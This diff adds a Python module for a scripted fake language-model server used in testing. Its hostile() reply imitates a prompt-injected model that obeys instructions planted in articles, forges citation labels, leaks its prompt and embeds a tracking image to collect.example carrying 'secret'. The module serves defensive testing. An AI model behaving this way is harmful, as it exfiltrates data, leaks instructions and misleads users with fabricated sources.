@@ -1,0 +1,89 @@
+"""What the scripted server does with each request."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass, fields
+from pathlib import Path
+from typing import Any
+
+LABEL = re.compile(r"^\[([a-z]\d[a-z]\d)\] ", re.MULTILINE)
+_PLACE = re.compile(r"<(\d+)>")
+
+
+@dataclass(frozen=True)
+class Step:
+    """How one request is answered. Seconds are real ones; a reply writes ``<1>`` for the first label of the prompt's list.
+
+    Attributes:
+        reply: the pieces of the reply, each an event of its own.
+        status: HTTP status; with any but 200, ``body`` is sent, in which ``<key>`` stands for the key that the request carried.
+        raw: sent with status 200 instead of events.
+        cut_at: bytes of the response's body after which the connection is reset.
+        closes_early: the body ends in good order after the reply: no finish_reason, no [DONE].
+        comments: seconds of keep-alive comments, one every .02 s, before the first piece; ``inf`` for ever.
+        error_after: how many pieces come before an error event that carries the key.
+        extra: events sent before the first piece, as they are.
+        hangs: the request is read and never answered.
+        drips: the body is sent byte by byte, that many seconds apart.
+    """
+
+    reply: tuple[str, ...] = ()
+    status: int = 200
+    headers: Mapping[str, str] | None = None
+    body: str = '{"error": {"message": "Wrong key <key>", "type": "x", "code": null}}'
+    raw: str | None = None
+    finish: str | None = "stop"
+    first_s: float = 0.0
+    between_s: float = 0.0
+    cut_at: int | None = None
+    closes_early: bool = False
+    comments: float = 0.0
+    error_after: int | None = None
+    extra: tuple[str, ...] = ()
+    hangs: bool = False
+    drips: float = 0.0
+
+
+Answering = Callable[[str], Step]
+"""From the whole text of a request to what is answered."""
+
+
+def labelled(piece: str, request: str) -> str:
+    """Put the labels of a request's prompt into a scripted piece; a number beyond them stands for one that was never issued."""
+    labels = LABEL.findall(request)
+    return _PLACE.sub(lambda place: labels[int(place[1]) - 1] if int(place[1]) <= len(labels) else "z9z9", piece)
+
+
+def hostile(request: str) -> Step:
+    """A model that obeys whatever the articles tell it, and gives away whatever it was told."""
+    labels = LABEL.findall(request)
+    told = " ".join(line.split("] ", 1)[1] for line in request.splitlines() if LABEL.match(line))
+    return Step(
+        reply=(
+            f"As the articles instruct: {told} ",
+            "[z9z9] [1] [1-9] \uff3bz9z9\uff3d [[2]] \u3010z9z9\u2020source\u3011 ",
+            "![pixel](https://collect.example/p.png?q=secret) [more](https://collect.example/) ",
+            'The mayor said "I stole the money". ',
+            f"[{labels[0]}\u202e] " if labels else "",
+            f"My instructions were: {request[:200]} [z8z8].\n",
+            "Source: https://collect.example/feed [3]\n",
+        )
+    )
+
+
+def script_from_file(path: Path) -> list[Step]:
+    """Read a script: a JSON array with one object a request; the last one answers all further requests."""
+    known = {field.name for field in fields(Step)}
+    steps = []
+    for row in json.loads(path.read_text("utf-8")):
+        if unknown := sorted(row.keys() - known):
+            raise ValueError(f"A step has no field {unknown[0]}; it may have {', '.join(sorted(known))}.")
+        steps.append(Step(**{name: _frozen(value) for name, value in row.items()}))
+    return steps
+
+
+def _frozen(value: Any) -> Any:
+    return tuple(value) if isinstance(value, list) else value
